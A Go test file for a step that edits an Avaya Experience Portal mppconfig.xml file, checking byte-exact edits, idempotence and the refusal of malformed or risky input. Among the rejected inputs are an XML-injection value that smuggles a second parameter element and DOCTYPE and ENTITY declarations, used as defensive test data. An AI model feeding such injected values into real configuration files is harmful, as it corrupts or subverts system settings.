package steps

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"upgrader/orchestrator"
)

const (
	runtimeParam = orchestrator.MPPRuntimeSizeParam // ccxml.jsi.runtimesize
	contextParam = orchestrator.MPPContextSizeParam // ccxml.jsi.contextsize
)

// mppXML is an mppconfig.xml as EP 7.2 ships it: runtimesize present,
// contextsize missing, another category after ccxml.
const mppXML = `<?xml version="1.0" encoding="UTF-8"?>
<!-- MPP configuration -->
<mppconfig>
    <category name="ccxml">
        <parameter name="ccxml.maxsessions">500</parameter>
        <!-- JavaScript interpreter sizes -->
        <parameter name="ccxml.jsi.runtimesize">16777216</parameter>
        <parameter name="ccxml.jsi.stacksize">65536</parameter>
    </category>
    <category name="vxml">
        <parameter name="vxml.maxsessions">500</parameter>
    </category>
</mppconfig>
`

const contextLine = `        <parameter name="ccxml.jsi.contextsize">262144</parameter>` + "\n"

// afterLine inserts ins after the line of s that contains marker.
func afterLine(tb testing.TB, s, marker, ins string) string {
	tb.Helper()
	i := strings.Index(s, marker)
	if i < 0 {
		tb.Fatalf("marker %q not in input", marker)
	}
	j := i + strings.IndexByte(s[i:], '\n') + 1
	return s[:j] + ins + s[j:]
}

func crlf(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }

func TestSetMPPParams(t *testing.T) {
	setRuntime := strings.Replace(mppXML, ">16777216<", ">33554432<", 1)
	both := map[string]string{runtimeParam: "33554432", contextParam: "262144"}
	// vxml before ccxml, tab-indented ccxml parameters.
	vxmlFirst := "<mppconfig>\n  <category name=\"vxml\">\n    <parameter name=\"vxml.maxsessions\">500</parameter>\n  </category>\n" +
		"\t<category name=\"ccxml\">\n\t\t<parameter name=\"ccxml.jsi.runtimesize\">33554432</parameter>\n\t</category>\n</mppconfig>\n"

	for _, tc := range []struct {
		name        string
		in          string
		values      map[string]string
		want        string // ignored when wantErr
		wantChanged bool
		wantErr     string
	}{
		{name: "sets an existing value, every other byte kept", in: mppXML,
			values: map[string]string{runtimeParam: "33554432"}, want: setRuntime, wantChanged: true},
		{name: "inserts a missing parameter after the last ccxml line", in: mppXML,
			values: map[string]string{contextParam: "262144"},
			want:   afterLine(t, mppXML, "ccxml.jsi.stacksize", contextLine), wantChanged: true},
		{name: "sets one and inserts the other", in: mppXML, values: both,
			want: afterLine(t, setRuntime, "ccxml.jsi.stacksize", contextLine), wantChanged: true},
		{name: "ignores params that are not mppconfig parameters", in: mppXML,
			values: map[string]string{"mpp": "mpp1", "config": "/opt/x.xml", runtimeParam: "33554432"},
			want:   setRuntime, wantChanged: true},
		{name: "inserts into ccxml even when another category comes first", in: vxmlFirst,
			values: both, wantChanged: true,
			want: afterLine(t, vxmlFirst, "ccxml.jsi.runtimesize", "\t\t<parameter name=\"ccxml.jsi.contextsize\">262144</parameter>\n")},
		{name: "keeps CRLF line endings", in: crlf(mppXML), values: both, wantChanged: true,
			want: crlf(afterLine(t, setRuntime, "ccxml.jsi.stacksize", contextLine))},
		{name: "already set: no change", in: afterLine(t, setRuntime, "ccxml.jsi.stacksize", contextLine),
			values: both, want: afterLine(t, setRuntime, "ccxml.jsi.stacksize", contextLine)},
		{name: "already set with CRLF: no change", in: crlf(afterLine(t, setRuntime, "ccxml.jsi.stacksize", contextLine)),
			values: both, want: crlf(afterLine(t, setRuntime, "ccxml.jsi.stacksize", contextLine))},
		{name: "spaces inside the tag", in: strings.Replace(mppXML, `<parameter name="ccxml.jsi.runtimesize">`, `<parameter  name="ccxml.jsi.runtimesize" >`, 1),
			values: map[string]string{runtimeParam: "33554432"}, wantChanged: true,
			want: strings.Replace(setRuntime, `<parameter name="ccxml.jsi.runtimesize">`, `<parameter  name="ccxml.jsi.runtimesize" >`, 1)},
		{name: "nothing asked", in: mppXML, values: map[string]string{"mpp": "mpp1"}, want: mppXML},
		{name: "no ccxml parameter to insert next to", in: "<mppconfig>\n  <parameter name=\"vxml.a\">1</parameter>\n</mppconfig>\n",
			values: map[string]string{contextParam: "262144"}, wantErr: "no ccxml parameter"},
		{name: "missing parameter, ccxml only in a comment", in: "<mppconfig>\n  <!-- ccxml.jsi.stacksize -->\n  <parameter name=\"vxml.a\">1</parameter>\n</mppconfig>\n",
			values: both, wantErr: "no ccxml parameter"},
		{name: "duplicate parameter", in: afterLine(t, mppXML, "ccxml.maxsessions", `        <parameter name="ccxml.jsi.runtimesize">8388608</parameter>`+"\n"),
			values: both, wantErr: "appears 2 times"},
		{name: "duplicate of the parameter to insert", in: afterLine(t, afterLine(t, mppXML, "ccxml.jsi.stacksize", contextLine), "ccxml.maxsessions", contextLine),
			values: both, wantErr: "appears 2 times"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := []byte(tc.in)
			got, changed, err := SetMPPParams(in, tc.values)
			if string(in) != tc.in {
				t.Fatal("SetMPPParams modified its input")
			}
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("err = %v, want %q", err, tc.wantErr)
				}
				if changed || !bytes.Equal(got, in) {
					t.Errorf("on error: changed %v, data changed %v; want the data unchanged", changed, !bytes.Equal(got, in))
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tc.want {
				t.Errorf("output differs:\n got %q\nwant %q", got, tc.want)
			}
			if changed != tc.wantChanged {
				t.Errorf("changed = %v, want %v", changed, tc.wantChanged)
			}
			if strings.Contains(tc.in, "\r\n") && strings.Count(string(got), "\n") != strings.Count(string(got), "\r\n") {
				t.Error("output mixes LF into a CRLF file")
			}
		})
	}
}

// mppSpec is the step as the plan makes it for mpp1.
func mppSpec() orchestrator.StepSpec {
	return orchestrator.StepSpec{ID: "mpp-config-mpp1", Kind: orchestrator.KindAuto, Action: "mpp-config",
		Skip: orchestrator.SkipWithReason, Params: map[string]string{
			"mpp": "mpp1", "config": "/opt/Avaya/ExperiencePortal/mpp1/config/mppconfig.xml",
			runtimeParam: "33554432", contextParam: "262144"}}
}

func TestMPPConfigStep(t *testing.T) {
	e := newSim(t, nil)
	spec := mppSpec()
	st := e.build(t, spec)
	sc := stepContext(spec, nil)
	path := e.path("opt/Avaya/ExperiencePortal/mpp1/config/mppconfig.xml")
	orig := path + OriginalSuffix
	original := readTestFile(t, path)
	mpp2 := readTestFile(t, e.path("opt/Avaya/ExperiencePortal/mpp2/config/mppconfig.xml"))
	if err := os.Chmod(path, 0o640); err != nil {
		t.Fatal(err)
	}

	mustProbe(t, st, sc, false)
	if _, err := st.Verify(context.Background(), sc); err == nil {
		t.Error("Verify succeeded before Apply")
	}
	mustApply(t, st, sc)
	if got := readTestFile(t, orig); !bytes.Equal(got, original) {
		t.Errorf("%s is not the original file", orig)
	}
	edited := readTestFile(t, path)
	want, _, err := SetMPPParams(original, spec.Params)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(edited, want) {
		t.Errorf("edited file:\n%s\nwant:\n%s", edited, want)
	}
	if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o640 {
		t.Errorf("edited file mode = %v (%v), want the original's 0640", fi.Mode(), err)
	}
	out := mustVerify(t, st, sc)
	for k, v := range map[string]string{runtimeParam: "33554432", contextParam: "262144", "original": orig} {
		if out.Values[k] != v {
			t.Errorf("Verify value %s = %q, want %q", k, out.Values[k], v)
		}
	}
	mustProbe(t, st, sc, true)

	// A second Apply changes nothing and keeps the original copy.
	mustApply(t, st, sc)
	if got := readTestFile(t, path); !bytes.Equal(got, edited) {
		t.Error("second Apply changed the edited file")
	}
	if got := readTestFile(t, orig); !bytes.Equal(got, original) {
		t.Error("second Apply replaced the original copy")
	}
	mustVerify(t, st, sc)
	if got := readTestFile(t, e.path("opt/Avaya/ExperiencePortal/mpp2/config/mppconfig.xml")); !bytes.Equal(got, mpp2) {
		t.Error("editing mpp1 changed mpp2's file")
	}
	dir := filepath.Dir(path)
	if names := dirNames(t, dir); len(names) != 2 {
		t.Errorf("%s holds %q, want the file and its original only", dir, names)
	}
}

func TestMPPConfigStepRefusesSymlink(t *testing.T) {
	e := newSim(t, nil)
	spec := mppSpec()
	st := e.build(t, spec)
	sc := stepContext(spec, nil)
	path := e.path(spec.Params["config"])
	target := filepath.Join(t.TempDir(), "mppconfig.xml")
	content := readTestFile(t, path)
	setMPPFile(t, target, content)
	removeFile(t, path)
	if err := os.Symlink(target, path); err != nil {
		t.Fatal(err)
	}
	before := takeMPPSnapshot(t, target)

	for _, tc := range []struct {
		name string
		run  func() error
	}{
		{"probe", func() error { _, err := st.Probe(context.Background(), sc); return err }},
		{"apply", func() error { return st.Apply(context.Background(), sc) }},
		{"verify", func() error { _, err := st.Verify(context.Background(), sc); return err }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.run()
			if err == nil || !strings.Contains(err.Error(), "not a regular file") {
				t.Errorf("err = %v, want a refusal of the symlink", err)
			}
		})
	}
	before.unchanged(t, target)
	if fi, err := os.Lstat(path); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the symlink was replaced: %v %v", fi, err)
	}
	if _, err := os.Lstat(path + OriginalSuffix); !os.IsNotExist(err) {
		t.Errorf("an original copy was written for a refused file (%v)", err)
	}
}

func TestMPPConfigStepNoPlaceToInsert(t *testing.T) {
	// Probe must not call a file done when it cannot hold the parameters.
	e := newSim(t, nil)
	spec := mppSpec()
	st := e.build(t, spec)
	sc := stepContext(spec, nil)
	path := e.path(spec.Params["config"])
	content := []byte("<mppconfig>\n    <category name=\"vxml\">\n        <parameter name=\"vxml.maxsessions\">500</parameter>\n    </category>\n</mppconfig>\n")
	writeTestFile(t, path, content)

	done, err := st.Probe(context.Background(), sc)
	if err == nil || done {
		t.Errorf("Probe = %v, %v; want an error", done, err)
	}
	if err := st.Apply(context.Background(), sc); err == nil || !strings.Contains(err.Error(), runtimeParam+" is missing") {
		t.Errorf("Apply = %v, want an error saying %s is missing", err, runtimeParam)
	}
	if got := readTestFile(t, path); !bytes.Equal(got, content) {
		t.Error("the file was changed")
	}
	if _, err := st.Verify(context.Background(), sc); err == nil {
		t.Error("Verify succeeded")
	}
}

// simMPPXML is the sim's mpp1 mppconfig.xml as it ships; simMPPEdited is
// the same file after the step.
const simMPPXML = `<?xml version="1.0" encoding="UTF-8"?>
<!-- MPP configuration (Avaya Experience Portal 7.2) -->
<mppconfig>
    <category name="ccxml">
        <parameter name="ccxml.maxsessions">500</parameter>
        <!-- JavaScript interpreter sizes -->
        <parameter name="ccxml.jsi.runtimesize">16777216</parameter>
        <parameter name="ccxml.jsi.stacksize">65536</parameter>
    </category>
    <category name="vxml">
        <parameter name="vxml.maxsessions">500</parameter>
    </category>
</mppconfig>
`

func simMPPEdited(tb testing.TB) string {
	return afterLine(tb, strings.Replace(simMPPXML, ">16777216<", ">33554432<", 1), "ccxml.jsi.stacksize", contextLine)
}

const utf8BOMString = "\xEF\xBB\xBF"

// bothParams are the values the plan asks for.
func bothParams() map[string]string {
	return map[string]string{runtimeParam: orchestrator.MPPRuntimeSize, contextParam: orchestrator.MPPContextSize}
}

// padMPP pads s to size bytes with a comment after its first line.
func padMPP(tb testing.TB, s string, size int) string {
	tb.Helper()
	pad := size - len(s) - len("<!--  -->\n")
	out := afterLine(tb, s, "\n", "<!-- "+strings.Repeat("x", pad)+" -->\n")
	if len(out) != size {
		tb.Fatalf("padded to %d bytes, want %d", len(out), size)
	}
	return out
}

func TestSetMPPParamsKeepsTheFile(t *testing.T) {
	edited := simMPPEdited(t)
	const decoy = `<!-- <parameter name="ccxml.jsi.runtimesize">1</parameter> -->`
	withDecoy := afterLine(t, simMPPXML, "ccxml.maxsessions", "        "+decoy+"\n")
	onlyDecoy := strings.Replace(simMPPXML, `<parameter name="ccxml.jsi.runtimesize">16777216</parameter>`, decoy, 1)
	cdataDecoy := afterLine(t, simMPPXML, "<mppconfig>",
		"    <description><![CDATA[<parameter name=\"ccxml.jsi.contextsize\">1</parameter>]]></description>\n")
	atMax := padMPP(t, edited, MaxMPPConfigSize)

	for _, tc := range []struct {
		name, in, want string
		changed        bool
	}{
		{name: "sim file", in: simMPPXML, want: edited, changed: true},
		{name: "CRLF", in: crlf(simMPPXML), want: crlf(edited), changed: true},
		{name: "BOM", in: utf8BOMString + simMPPXML, want: utf8BOMString + edited, changed: true},
		{name: "BOM and CRLF", in: utf8BOMString + crlf(simMPPXML), want: utf8BOMString + crlf(edited), changed: true},
		{name: "BOM and CRLF, already set", in: utf8BOMString + crlf(edited), want: utf8BOMString + crlf(edited)},
		{name: "no XML declaration", in: strings.SplitN(simMPPXML, "\n", 2)[1], want: strings.SplitN(edited, "\n", 2)[1], changed: true},
		{name: "lower-case utf-8 in single quotes", in: strings.Replace(simMPPXML, `encoding="UTF-8"`, `encoding='utf-8'`, 1),
			want: strings.Replace(edited, `encoding="UTF-8"`, `encoding='utf-8'`, 1), changed: true},
		{name: "US-ASCII declared", in: strings.Replace(simMPPXML, "UTF-8", "US-ASCII", 1),
			want: strings.Replace(edited, "UTF-8", "US-ASCII", 1), changed: true},
		{name: "commented-out parameter before the real one is left alone", in: withDecoy,
			want: afterLine(t, edited, "ccxml.maxsessions", "        "+decoy+"\n"), changed: true},
		{name: "parameter only in a comment is inserted as missing", in: onlyDecoy, changed: true,
			want: afterLine(t, strings.Replace(simMPPXML, `<parameter name="ccxml.jsi.runtimesize">16777216</parameter>`, decoy, 1),
				"ccxml.jsi.stacksize", "        <parameter name=\"ccxml.jsi.runtimesize\">33554432</parameter>\n"+contextLine)},
		{name: "parameter in CDATA is not a parameter", in: cdataDecoy, changed: true,
			want: afterLine(t, edited, "<mppconfig>",
				"    <description><![CDATA[<parameter name=\"ccxml.jsi.contextsize\">1</parameter>]]></description>\n")},
		{name: "decoy in an attribute value", in: strings.Replace(simMPPXML, `<mppconfig>`, `<mppconfig note="&lt;parameter name=&quot;ccxml.jsi.runtimesize&quot;&gt;1&lt;/parameter&gt;">`, 1),
			want: strings.Replace(edited, `<mppconfig>`, `<mppconfig note="&lt;parameter name=&quot;ccxml.jsi.runtimesize&quot;&gt;1&lt;/parameter&gt;">`, 1), changed: true},
		{name: "value with spaces around it is replaced whole", in: strings.Replace(simMPPXML, ">16777216<", "> 16777216\n        <", 1),
			want: edited, changed: true},
		{name: "other attributes are kept", in: strings.Replace(simMPPXML, `name="ccxml.jsi.runtimesize">`, `name="ccxml.jsi.runtimesize" type='int'>`, 1),
			want: strings.Replace(edited, `name="ccxml.jsi.runtimesize">`, `name="ccxml.jsi.runtimesize" type='int'>`, 1), changed: true},
		{name: "empty value is set", in: strings.Replace(simMPPXML, ">16777216<", "><", 1), want: edited, changed: true},
		{name: "non-ASCII text elsewhere is kept", in: strings.Replace(simMPPXML, "(Avaya Experience Portal 7.2)", "(Überprüft: ✓)", 1),
			want: strings.Replace(edited, "(Avaya Experience Portal 7.2)", "(Überprüft: ✓)", 1), changed: true},
		{name: "a file of exactly 4 MiB is read", in: atMax, want: atMax},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, changed, err := SetMPPParams([]byte(tc.in), bothParams())
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tc.want {
				t.Errorf("output differs:\n got %q\nwant %q", got, tc.want)
			}
			if changed != tc.changed {
				t.Errorf("changed = %v, want %v", changed, tc.changed)
			}
			again, changed, err := SetMPPParams(got, bothParams())
			if err != nil || changed || !bytes.Equal(again, got) {
				t.Errorf("second run: changed %v, err %v, same bytes %v; want no change", changed, err, bytes.Equal(again, got))
			}
		})
	}
}

// mppRefusals are files the step refuses to edit, and what the error says.
func mppRefusals(tb testing.TB) []struct{ name, in, wantErr string } {
	param := `<parameter name="ccxml.jsi.runtimesize">16777216</parameter>`
	with := func(repl string) string { return strings.Replace(simMPPXML, param, repl, 1) }
	return []struct{ name, in, wantErr string }{
		{"malformed: unclosed element", strings.Replace(simMPPXML, "</category>\n    <category", "\n    <category", 1), "not well-formed"},
		{"malformed: mismatched end tag", strings.Replace(simMPPXML, "</mppconfig>", "</mppconfg>", 1), "not well-formed"},
		{"malformed: truncated file", simMPPXML[:len(simMPPXML)/2], "not well-formed"},
		{"malformed: unquoted attribute", with(`<parameter name=ccxml.jsi.runtimesize>16777216</parameter>`), "not well-formed"},
		{"malformed: undefined entity", with(`<parameter name="ccxml.jsi.runtimesize">&size;</parameter>`), "not well-formed"},
		{"malformed: two root elements", simMPPXML + "<mppconfig/>\n", "second root element"},
		{"malformed: text after the root", simMPPXML + "oops\n", "text outside the root"},
		{"malformed: XML declaration not at the start", "\n" + simMPPXML, "XML declaration that is not at the start"},
		{"malformed: repeated attribute", with(`<parameter name="ccxml.x" name="ccxml.jsi.runtimesize">16777216</parameter>`), "repeated"},
		{"malformed: -- in a comment", strings.Replace(simMPPXML, "JavaScript interpreter", "Java--Script", 1), "not well-formed"},
		{"malformed: invalid UTF-8", strings.Replace(simMPPXML, "Portal 7.2", "Portal \xff7.2", 1), "invalid UTF-8"},
		{"malformed: control character in a comment", strings.Replace(simMPPXML, "Portal 7.2", "Portal \x017.2", 1), "not allowed in XML"},
		{"malformed: no root element", "<?xml version=\"1.0\"?>\n<!-- empty -->\n", "no root element"},
		{"DOCTYPE", afterLine(tb, simMPPXML, "<?xml", "<!DOCTYPE mppconfig>\n"), "<!DOCTYPE"},
		{"DOCTYPE with entities", afterLine(tb, simMPPXML, "<?xml", "<!DOCTYPE mppconfig [<!ENTITY size \"33554432\">]>\n"), "<!DOCTYPE"},
		{"ENTITY declaration in a comment", afterLine(tb, simMPPXML, "<?xml", "<!-- <!ENTITY x \"y\"> -->\n"), "<!ENTITY"},
		{"lower-case doctype directive", afterLine(tb, simMPPXML, "<?xml", "<!doctype mppconfig>\n"), "directive"},
		{"duplicate parameter", afterLine(tb, simMPPXML, "ccxml.maxsessions", "        "+param+"\n"), "appears 2 times (lines 6, 8)"},
		{"duplicate parameter in another category", afterLine(tb, simMPPXML, "vxml.maxsessions", "        "+param+"\n"), "appears 2 times"},
		{"duplicate of a missing parameter", afterLine(tb, afterLine(tb, simMPPXML, "ccxml.maxsessions", contextLine), "vxml.maxsessions", contextLine), "appears 2 times"},
		{"nested element in the value", with(`<parameter name="ccxml.jsi.runtimesize"><value>16777216</value></parameter>`), "holds elements"},
		{"CDATA value", with(`<parameter name="ccxml.jsi.runtimesize"><![CDATA[16777216]]></parameter>`), "CDATA"},
		{"comment in the value", with(`<parameter name="ccxml.jsi.runtimesize">16777216<!-- was 8M --></parameter>`), "comment"},
		{"character reference in the value", with(`<parameter name="ccxml.jsi.runtimesize">&#49;6777216</parameter>`), "reference"},
		{"empty element", with(`<parameter name="ccxml.jsi.runtimesize"/>`), "empty element"},
		{"prefixed parameter element", strings.Replace(with(`<p:parameter name="ccxml.jsi.runtimesize">16777216</p:parameter>`), "<mppconfig>", `<mppconfig xmlns:p="urn:p">`, 1), "prefixed parameter"},
		{"over 4 MiB", padMPP(tb, simMPPXML, MaxMPPConfigSize+1), "more than the 4194304"},
		{"over 4 MiB once edited", padMPP(tb, simMPPXML, MaxMPPConfigSize-10), "the edited file would be"},
		{"ISO-8859-1 declared", strings.Replace(simMPPXML, "UTF-8", "ISO-8859-1", 1), `declares encoding "ISO-8859-1": only UTF-8 or ASCII`},
		{"UTF-16 declared", strings.Replace(simMPPXML, "UTF-8", "UTF-16", 1), `declares encoding "UTF-16"`},
		{"UTF-16 byte order mark", "\xFF\xFE<\x00?\x00x\x00m\x00l\x00", "UTF-16"},
		{"ASCII declared, UTF-8 used", strings.Replace(strings.Replace(simMPPXML, "UTF-8", "US-ASCII", 1), "Portal", "Portäl", 1), "declared US-ASCII"},
		{"no ccxml line to insert after", "<mppconfig>\n  <parameter name=\"vxml.a\">1</parameter>\n</mppconfig>\n", "no ccxml parameter"},
		{"ccxml parameters only share lines", "<mppconfig><parameter name=\"ccxml.a\">1</parameter></mppconfig>\n", "no ccxml parameter"},
	}
}

func TestSetMPPParamsRefuses(t *testing.T) {
	for _, tc := range mppRefusals(t) {
		t.Run(tc.name, func(t *testing.T) {
			in := []byte(tc.in)
			got, changed, err := SetMPPParams(in, bothParams())
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("err = %v, want %q", err, tc.wantErr)
			}
			if changed || !bytes.Equal(got, []byte(tc.in)) || string(in) != tc.in {
				t.Error("a refused file was changed")
			}
		})
	}
}

func TestSetMPPParamsRefusesValues(t *testing.T) {
	for _, v := range []string{"", "1e6", " 33554432", "33554432\n", "-1", "+1", "0x10", "３３", "1234567890123456789",
		`1</parameter><parameter name="x">2`} {
		for _, name := range mppParams {
			t.Run(name+"="+v, func(t *testing.T) {
				values := bothParams()
				values[name] = v
				got, changed, err := SetMPPParams([]byte(simMPPXML), values)
				if err == nil || !strings.Contains(err.Error(), "is not a size") {
					t.Fatalf("err = %v, want a refusal of the value", err)
				}
				if changed || string(got) != simMPPXML {
					t.Error("file changed")
				}
			})
		}
	}
}

// mppOldTime is set as the config's mtime so that any rewrite shows.
var mppOldTime = time.Date(2001, 2, 3, 4, 5, 6, 0, time.UTC)

// mppSnapshot is what must stay the same of a file nobody may touch.
type mppSnapshot struct {
	data  []byte
	mtime time.Time
	info  os.FileInfo
}

func takeMPPSnapshot(tb testing.TB, path string) mppSnapshot {
	tb.Helper()
	fi, err := os.Lstat(path)
	if err != nil {
		tb.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	return mppSnapshot{data, fi.ModTime(), fi}
}

// unchanged fails tb unless path has the bytes, mtime and inode it had.
func (s mppSnapshot) unchanged(tb testing.TB, path string) {
	tb.Helper()
	now := takeMPPSnapshot(tb, path)
	if !bytes.Equal(now.data, s.data) {
		tb.Errorf("%s: bytes changed", filepath.Base(path))
	}
	if !now.mtime.Equal(s.mtime) {
		tb.Errorf("%s: mtime changed from %v to %v", filepath.Base(path), s.mtime, now.mtime)
	}
	if !os.SameFile(now.info, s.info) {
		tb.Errorf("%s: replaced by another file", filepath.Base(path))
	}
}

// setMPPFile writes the config with an old mtime.
func setMPPFile(tb testing.TB, path string, data []byte) {
	tb.Helper()
	writeTestFile(tb, path, data)
	if err := os.Chtimes(path, mppOldTime, mppOldTime); err != nil {
		tb.Fatal(err)
	}
}

func TestMPPConfigStepRefusals(t *testing.T) {
	type refusal struct {
		name    string
		in      string
		params  map[string]string // overrides of the spec's
		wantErr string
	}
	var cases []refusal
	for _, r := range mppRefusals(t) {
		cases = append(cases, refusal{name: r.name, in: r.in, wantErr: r.wantErr})
	}
	cases = append(cases,
		refusal{name: "value not digits", in: simMPPXML, params: map[string]string{runtimeParam: "32M"}, wantErr: "is not a size"},
		refusal{name: "value empty", in: simMPPXML, params: map[string]string{contextParam: ""}, wantErr: "is not a size"},
	)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := newSim(t, nil)
			spec := mppSpec()
			for k, v := range tc.params {
				spec.Params[k] = v
			}
			st := e.build(t, spec)
			sc := stepContext(spec, nil)
			path := e.path(spec.Params["config"])
			setMPPFile(t, path, []byte(tc.in))
			before := takeMPPSnapshot(t, path)
			names := dirNames(t, filepath.Dir(path))

			if done, err := st.Probe(context.Background(), sc); done || err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("Probe = %v, %v; want an error with %q", done, err, tc.wantErr)
			}
			if err := st.Apply(context.Background(), sc); err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("Apply = %v, want an error with %q", err, tc.wantErr)
			} else if !strings.Contains(err.Error(), path) {
				t.Errorf("Apply = %v, want the error to name %s", err, path)
			}
			if _, err := st.Verify(context.Background(), sc); err == nil {
				t.Error("Verify succeeded")
			}
			before.unchanged(t, path)
			if got := dirNames(t, filepath.Dir(path)); !slices.Equal(got, names) {
				t.Errorf("directory holds %q, want %q (no copy, no temp file)", got, names)
			}
		})
	}
}

func TestMPPConfigStepTwice(t *testing.T) {
	for _, tc := range []struct{ name, in string }{
		{"sim file", simMPPXML},
		{"BOM and CRLF", utf8BOMString + crlf(simMPPXML)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newSim(t, nil)
			spec := mppSpec()
			st := e.build(t, spec)
			sc := stepContext(spec, nil)
			path := e.path(spec.Params["config"])
			setMPPFile(t, path, []byte(tc.in))
			if err := os.Chmod(path, 0o600); err != nil {
				t.Fatal(err)
			}
			mustProbe(t, st, sc, false)
			mustApply(t, st, sc)
			want := simMPPEdited(t)
			if strings.HasPrefix(tc.in, utf8BOMString) {
				want = utf8BOMString + crlf(want)
			}
			if got := readTestFile(t, path); string(got) != want {
				t.Errorf("edited file:\n%q\nwant\n%q", got, want)
			}
			if got := readTestFile(t, path+OriginalSuffix); string(got) != tc.in {
				t.Error("the copy is not the original")
			}
			for _, p := range []string{path, path + OriginalSuffix} {
				if fi, err := os.Stat(p); err != nil || fi.Mode().Perm() != 0o600 {
					t.Errorf("%s: mode %v (%v), want the original's 0600", filepath.Base(p), fi.Mode(), err)
				}
			}
			mustVerify(t, st, sc)
			mustProbe(t, st, sc, true)

			// The second run: nothing is written at all.
			for _, p := range []string{path, path + OriginalSuffix} {
				if err := os.Chtimes(p, mppOldTime, mppOldTime); err != nil {
					t.Fatal(err)
				}
			}
			file, orig := takeMPPSnapshot(t, path), takeMPPSnapshot(t, path+OriginalSuffix)
			mustProbe(t, st, sc, true)
			mustApply(t, st, sc)
			mustVerify(t, st, sc)
			file.unchanged(t, path)
			orig.unchanged(t, path+OriginalSuffix)
		})
	}
}

func TestMPPConfigStepConverges(t *testing.T) {
	original := []byte(simMPPXML)
	edited := []byte(simMPPEdited(t))
	runtimeOnly := []byte(strings.Replace(simMPPXML, ">16777216<", ">33554432<", 1))
	for _, tc := range []struct {
		name      string
		file      []byte
		copy      []byte            // the .upgrader-orig present before, if any
		others    map[string][]byte // other files in the directory
		wantProbe bool
		wantCopy  []byte // the copy after Apply; nil: none
	}{
		{name: "fresh", file: original, wantCopy: original},
		{name: "original copy present, file unedited", file: original, copy: original, wantCopy: original},
		{name: "file edited, no copy (set before upgrader came)", file: edited, wantProbe: true},
		{name: "file edited and copy present (crash before the result was saved)", file: edited, copy: original,
			wantProbe: true, wantCopy: original},
		{name: "one parameter set by hand", file: runtimeOnly, wantCopy: runtimeOnly},
		{name: "leftover temp file from a crash, half written", file: original, copy: original, wantCopy: original,
			others: map[string][]byte{".mppconfig.xml.tmp-1234567": edited[:len(edited)/2]}},
		{name: "leftover temp file holding the edited file", file: original, copy: original, wantCopy: original,
			others: map[string][]byte{".mppconfig.xml.tmp-7654321": edited}},
		{name: "leftover temp file of the copy", file: original, wantCopy: original,
			others: map[string][]byte{".mppconfig.xml.upgrader-orig.tmp-42": original[:10]}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newSim(t, nil)
			spec := mppSpec()
			st := e.build(t, spec)
			sc := stepContext(spec, nil)
			path := e.path(spec.Params["config"])
			dir := filepath.Dir(path)
			setMPPFile(t, path, tc.file)
			if tc.copy != nil {
				writeTestFile(t, path+OriginalSuffix, tc.copy)
			}
			others := map[string]mppSnapshot{}
			for name, data := range tc.others {
				writeTestFile(t, filepath.Join(dir, name), data)
				others[name] = takeMPPSnapshot(t, filepath.Join(dir, name))
			}
			before := takeMPPSnapshot(t, path)

			mustProbe(t, st, sc, tc.wantProbe)
			if tc.wantProbe {
				mustVerify(t, st, sc) // done means Verify holds, as it is
			}
			mustApply(t, st, sc)
			if tc.wantProbe {
				before.unchanged(t, path)
			}
			if got := readTestFile(t, path); !bytes.Equal(got, edited) {
				t.Errorf("file after Apply:\n%s\nwant\n%s", got, edited)
			}
			out := mustVerify(t, st, sc)
			copyData, err := os.ReadFile(path + OriginalSuffix)
			switch {
			case tc.wantCopy == nil && !os.IsNotExist(err):
				t.Errorf("a copy was made (%v) of a file that needed no edit", err)
			case tc.wantCopy != nil && !bytes.Equal(copyData, tc.wantCopy):
				t.Errorf("copy = %q (%v), want %q", copyData, err, tc.wantCopy)
			}
			if _, ok := out.Values["original"]; ok != (tc.wantCopy != nil) {
				t.Errorf("Verify original = %q, want one: %v", out.Values["original"], tc.wantCopy != nil)
			}
			for name, o := range others {
				o.unchanged(t, filepath.Join(dir, name)) // not mistaken for the config, not removed
			}
			want := []string{"mppconfig.xml"}
			if tc.wantCopy != nil {
				want = append(want, "mppconfig.xml"+OriginalSuffix)
			}
			want = append(want, slices.Collect(maps.Keys(tc.others))...)
			slices.Sort(want)
			if got := dirNames(t, dir); !slices.Equal(got, want) {
				t.Errorf("directory holds %q, want %q", got, want)
			}

			// And once more: nothing changes.
			after := takeMPPSnapshot(t, path)
			mustProbe(t, st, sc, true)
			mustApply(t, st, sc)
			after.unchanged(t, path)
		})
	}
}

// mppMemFiles is MPPFiles in memory that records calls and fails on demand.
type mppMemFiles struct {
	files map[string]mppMemFile
	fail  map[string]error // "write path" → the error WriteFileAtomic returns
	// after, if set, runs after each write: another hand at work.
	after func(m *mppMemFiles, path string)
	calls []string
}

type mppMemFile struct {
	data []byte
	mode fs.FileMode
}

var _ MPPFiles = (*mppMemFiles)(nil)

func (m *mppMemFiles) Stat(path string) (FileStat, error) {
	m.calls = append(m.calls, "stat "+path)
	f, ok := m.files[path]
	if !ok {
		return FileStat{}, &fs.PathError{Op: "lstat", Path: path, Err: fs.ErrNotExist}
	}
	return FileStat{Mode: f.mode, Size: int64(len(f.data))}, nil
}

func (m *mppMemFiles) ReadFile(path string, max int64) ([]byte, error) {
	m.calls = append(m.calls, "read "+path)
	f, ok := m.files[path]
	if !ok {
		return nil, &fs.PathError{Op: "open", Path: path, Err: fs.ErrNotExist}
	}
	return bytes.Clone(f.data), nil
}

